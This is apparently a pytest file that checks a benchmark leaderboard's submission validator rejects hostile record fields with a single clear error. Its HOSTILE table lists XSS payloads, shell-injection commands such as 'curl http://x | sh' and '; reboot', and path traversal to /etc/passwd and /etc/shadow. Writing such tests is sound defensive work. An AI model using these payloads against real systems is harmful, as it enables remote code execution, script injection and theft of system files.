"""What somebody might try in a text of a record: one clear line from `validate`, and no place on a page."""

from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from bench.errors import BenchError
from bench.leaderboard.build import judge
from bench.leaderboard.submissions.pack import pack
from bench.leaderboard.submissions.problems import senseless
from bench.leaderboard.submissions.texts import marked_up
from bench.leaderboard.submissions.validate import validate
from bench.records.schema import Record
from tests.factories import make_record
from tests.unit.leaderboard.bundles import Change, forged, run_in

HOSTILE: dict[str, tuple[Change, str]] = {
    "script": (lambda r: r["defense"].update(summary="<script>alert(1)</script>"), "defense.summary holds markup"),
    "address": (lambda r: r["attack"].update(source="JavaScript :alert(1)"), "attack.source holds markup"),
    "image": (lambda r: r.update(command='"><img src=x onerror=alert(1)>'), "command holds markup"),
    "shell": (lambda r: r.update(command="curl http://x | sh"), "command 'curl http://x | sh' is no `bench run`"),
    "piped": (lambda r: r.update(command="bench run a b | sh"), "command 'bench run a b | sh' is no `bench run`"),
    "after": (lambda r: r.update(command="bench run a b; reboot"), "command 'bench run a b; reboot' is no `bench run`"),
    "inner": (lambda r: r.update(command="bench run $(id) b"), "command 'bench run $(id) b' is no `bench run`"),
    "open": (lambda r: r.update(command="bench run 'a b"), "is no `bench run`"),
    "name": (lambda r: r["attack"]["settings"].update({"<svg onload=x>": 1}), "a name in attack.settings holds markup"),
    "list": (lambda r: r["warnings"].append("<a href=x>y</a>"), "warnings[0] holds markup"),
    "path": (lambda r: r.update(pictures=["../../../etc/passwd"]), "picture '../../../etc/passwd' is no plain name"),
    "root": (lambda r: r.update(pictures=["/etc/shadow.png"]), "picture '/etc/shadow.png' is no plain name"),
    "often": (lambda r: r.update(pictures=["a.png"] * 300), "300 pictures; 16 at most"),
    "twice": (lambda r: r.update(pictures=["a.png", "a.png"]), "a picture is named twice"),
}


@pytest.fixture(scope="module")
def bundle(tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("texts")
    return pack(run_in(folder), folder / "out")


@pytest.mark.parametrize("name", HOSTILE)
def test_one_line_and_no_place_on_a_page(bundle: Path, name: str, tmp_path: Path) -> None:
    change, words = HOSTILE[name]
    copy = tmp_path / bundle.name
    copy.write_bytes(bundle.read_bytes())
    found = [line for line in validate(forged(copy, change)).problems if words in line]
    assert len(found) == 1
    with pytest.raises(BenchError, match="is no record of a measurement") as refusal:
        judge([(tmp_path / "record.json", _changed(change))])
    assert words in str(refusal.value)
    assert "\n" not in str(refusal.value)


def test_what_verify_writes_is_no_foreign_command() -> None:
    assert list(senseless(make_record(command="bench leaderboard verify, cell 3f9a0c1d5b7e2468"))) == []
    (line,) = senseless(make_record(command="bench leaderboard verify, cell 3f9a; reboot"))
    assert "is no `bench run`" in line


def _changed(change: Callable[[dict[str, Any]], None]) -> Record:
    raw = make_record().model_dump(mode="json")
    change(raw)
    return Record.model_validate(raw)


@pytest.mark.parametrize(
    "text",
    [
        "TypeError: got <class 'int'> (mine.py:3)",
        "alpha < 1/2 and beta > 1/2",
        "0 <a < 1",
        "<function run at 0x7f>, <lambda>",
        "queries=15 -> K=5",
        "Kim et al., IPMI 2023: a simple yet effective approach",
    ],
)
def test_what_honest_records_say_is_no_markup(text: str) -> None:
    assert list(marked_up({"reason": text, text: 1})) == []
    assert list(senseless(make_record(warnings=[text]))) == []
